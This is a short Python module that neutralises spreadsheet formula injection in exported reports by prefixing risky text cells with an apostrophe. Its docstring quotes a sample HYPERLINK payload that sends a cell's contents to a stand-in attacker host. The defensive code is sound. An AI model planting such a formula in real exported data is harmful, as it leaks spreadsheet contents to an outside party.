"""Text cells that a spreadsheet would run as a formula, neutralised for the app's reports and their exports.

A customer named ``=HYPERLINK("https://evil.example/?"&A1, "Invoice")`` or a PO reference starting with ``@``
would become a live formula in whoever opens an exported report in Excel, LibreOffice or Google Sheets.
Following OWASP's advice on CSV injection, a text that starts with ``=``, ``+``, ``-`` or ``@`` (or a tab or
line break, which spreadsheets skip before reading a formula) gets a leading apostrophe, so it is shown and
exported as the text it is. Numbers, dates and empty values are left alone: a number stays a number.
"""

from collections.abc import Iterable

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r", "\n")
NEUTRAL_PREFIX = "'"


def neutralise(value):
	"""``value`` with a leading apostrophe if it is text a spreadsheet would read as a formula."""
	if isinstance(value, str) and value.startswith(FORMULA_STARTS):
		return NEUTRAL_PREFIX + value
	return value


def neutralise_rows(rows: Iterable) -> list:
	"""Every text cell of report rows (dicts or lists) neutralised, in place; returns the rows."""
	rows = rows if isinstance(rows, list) else list(rows)
	for row in rows:
		if isinstance(row, dict):
			for key, value in row.items():
				if isinstance(value, str):
					row[key] = neutralise(value)
		elif isinstance(row, list):
			row[:] = [neutralise(value) for value in row]
	return rows
